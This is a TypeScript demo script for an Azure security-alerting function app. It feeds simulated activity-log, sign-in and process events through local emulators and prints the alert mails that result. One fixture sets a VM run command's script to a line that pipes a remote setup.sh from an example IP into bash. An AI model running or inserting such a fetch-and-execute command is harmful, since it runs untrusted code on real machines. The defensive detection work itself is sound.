import { setTimeout as sleep } from 'node:timers/promises'
import { activityLogRecord, message, processEvent, signInRecord, stages, uuid, vmId } from '../support/azure-events'
import { ENDPOINT_HUB, startAzureWorld, type AzureWorld } from '../support/azure-world'

const RUN_COMMAND = 'Microsoft.Compute/virtualMachines/runCommands/write'

interface Chapter {
  readonly what: string
  readonly messages: readonly unknown[]
  readonly hub?: string
}

const chapters = (world: AzureWorld): readonly Chapter[] => {
  const command = `${vmId('vm-web-01')}/runCommands/update-agent`
  world.arm.resources.set(command.toLowerCase(), {
    properties: {
      source: { script: 'curl -s http://203.0.113.9/setup.sh | bash' },
      instanceView: { executionState: 'Running' },
    },
  })
  const [start, accept, success] = stages({ operation: RUN_COMMAND, resourceId: command, correlationId: uuid(1) })
  const others = ['vm-db-01', 'vm-db-02', 'vm-db-03', 'vm-db-04'].map((name, index) =>
    activityLogRecord({
      resourceId: vmId(name),
      correlationId: uuid(10 + index),
      time: `2026-03-02T10:0${index + 1}:00.0000000Z`,
    }),
  )
  return [
    {
      what: 'alice@example.com puts a managed run command on vm-web-01; its script is read from Azure Resource Manager',
      messages: [message(signInRecord(), start)],
    },
    {
      what: 'the later stages of the same operation, one of them twice: nothing may be sent',
      messages: [message(accept), message(success, accept)],
    },
    {
      what: 'the same caller runs commands on four more machines; Azure never shows their scripts',
      messages: [message(...others)],
    },
    {
      what: 'the guest of vm-web-01 reports a process that the run command agent started',
      messages: [processEvent()],
      hub: ENDPOINT_HUB,
    },
  ]
}

/**
 * `npm run demo:azure`: the built function app with local emulators of its services, a short story through a producer,
 * an AMQP hub and the real consumer client, and the mails that would arrive. Ends by itself.
 */
const demo = async (): Promise<void> => {
  const world = await startAzureWorld()
  try {
    console.log(
      'The built function app runs under a local stand-in of the Functions host; nothing leaves this machine.\n',
    )
    const [log, processes] = [await world.trigger(), await world.trigger(world.app, 'endpoint')]
    let sent = 0
    for (const { what, messages, hub } of chapters(world)) {
      console.log(`* ${what}`)
      await world.produce(messages, hub === undefined ? {} : { hub })
      sent += messages.length
      while (log.passed() + processes.passed() < sent) await sleep(20)
    }
    const mails = await world.alerts.read({ atLeast: 2 })
    for (const { subject, body } of mails) console.log(`\n${'='.repeat(100)}\nSubject: ${subject ?? ''}\n\n${body}`)
    console.log(`${'='.repeat(100)}\n${mails.length} mails`)
  } finally {
    await world.stop()
  }
}

demo().catch((cause: unknown) => {
  console.error(cause)
  process.exitCode = 1
})
